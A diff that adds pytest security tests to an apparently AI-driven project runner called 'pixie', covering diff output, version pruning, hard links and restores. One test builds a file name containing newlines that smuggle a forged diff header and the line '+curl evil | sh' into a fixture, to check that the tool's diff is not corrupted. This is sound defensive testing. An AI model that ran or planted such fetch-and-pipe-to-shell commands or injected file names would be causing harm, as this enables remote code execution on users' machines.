@@ -268,3 +268,75 @@ def test_deployed_runs_keep_their_change_lists_in_the_table(table):
     assert record["files"] == {"index.html": "A"}
     assert record["fileChanges"] == [{"tool": "createOrUpdateFiles", "toolCallId": "c1", "created": ["index.html"],
                                       "changed": [], "deleted": [], "turn": 1, "index": 0}]
+
+
+def test_a_file_name_with_a_newline_cannot_forge_lines_of_pixie_diff(tmp_path):
+    """The model names the files (a command can create any name): a newline in a name must not add
+    lines of its own choosing to the diff the user reads (a forged `+++` header, an added line)."""
+    import os
+    import subprocess
+    import sys
+    from pathlib import Path
+
+    from lambdas.logic.versions import VersionStore
+    from pixie.runs import save_run
+
+    home = tmp_path / "home"
+    run_id = "a1b2c3d4e5f60718"
+    save_run(home, {"runId": run_id, "status": "SUCCEEDED", "prompt": "p", "files": {}})
+    forged = "ok.txt\n+++ b/FORGED\n+curl evil | sh"
+    VersionStore(home).save_files(run_id, run_id, {forged: b"x\n"}, complete=True)
+    environment = {**os.environ, "PIXIE_HOME": str(home)}
+    result = subprocess.run([str(Path(sys.executable).parent / "pixie"), "diff", run_id],
+                            capture_output=True, text=True, env=environment, timeout=120)
+    assert result.returncode == 0, result.stderr
+    assert "ok.txt" in result.stdout
+    lines = result.stdout.splitlines()
+    assert "+++ b/FORGED" not in lines and "+curl evil | sh" not in lines, result.stdout
+
+
+def test_versions_of_interrupted_runs_never_resumed_stay_within_the_projects_bound(tmp_path):
+    """A run killed (kill -9) and never resumed leaves a partial version (complete false): pruning
+    takes those too once no complete one is left to take, so the bound holds (attack session F5)."""
+    from lambdas.logic.versions import StoreLimits, VersionStore
+
+    store = VersionStore(tmp_path, StoreLimits(max_versions=2, max_bytes=10**9))
+    for abandoned in range(5):  # each run's last journal save before its process was killed, hours ago
+        manifest = store.save_files(f"killed{abandoned}", "project", {"f.txt": str(abandoned).encode()}, complete=False)
+        path = tmp_path / "versions" / "manifests" / f"killed{abandoned}.json"
+        path.write_text(json.dumps({**manifest, "createdAt": manifest["createdAt"] - 2 * 3600}))
+    store.save_files("finished", "project", {"f.txt": b"done"}, complete=True)
+    assert len(store.project_versions("project")) <= 2
+
+
+def test_a_hard_linked_pair_inside_the_project_is_kept_in_its_version(tmp_path):
+    """`ln made.txt copy.txt` in the project (a command, `cp -al`, build tools): every name of the
+    file is inside, so both are kept; a hard link to a file with a name outside is still skipped."""
+    import os
+
+    from lambdas.logic.versions import read_folder
+
+    (tmp_path / "made.txt").write_text("data\n")
+    os.link(tmp_path / "made.txt", tmp_path / "copy.txt")
+    files, skipped, _ = read_folder(tmp_path)
+    assert files.get("made.txt") == b"data\n", skipped
+    assert files.get("copy.txt") == b"data\n"
+    outside = tmp_path.parent / f"{tmp_path.name}-outside.txt"
+    outside.write_text("secret\n")
+    os.link(outside, tmp_path / "inside-name.txt")
+    files, skipped, _ = read_folder(tmp_path)
+    assert "inside-name.txt" not in files and skipped["inside-name.txt"] == "hard link"
+
+
+def test_a_running_run_is_not_restored(tmp_path):
+    """Its version is a mid-step snapshot and its conversation stops inside a tool call (attack F7)."""
+    from pixie.runs import save_run
+    from pixie.versions import VersionNotFound, restore_run
+
+    run_id = "b1b2c3d4e5f60718"
+    save_run(tmp_path, {"runId": run_id, "status": "RUNNING", "pid": os.getpid(), "prompt": "p", "files": {}})
+    VersionStore(tmp_path).save_files(run_id, run_id, {"index.html": b"half"}, complete=False)
+    with pytest.raises(VersionNotFound, match="still running"):
+        restore_run(tmp_path, run_id)
+    restored = pixie("restore", run_id, home=tmp_path)
+    assert restored.returncode == 2 and "still running" in restored.stderr, restored.stderr
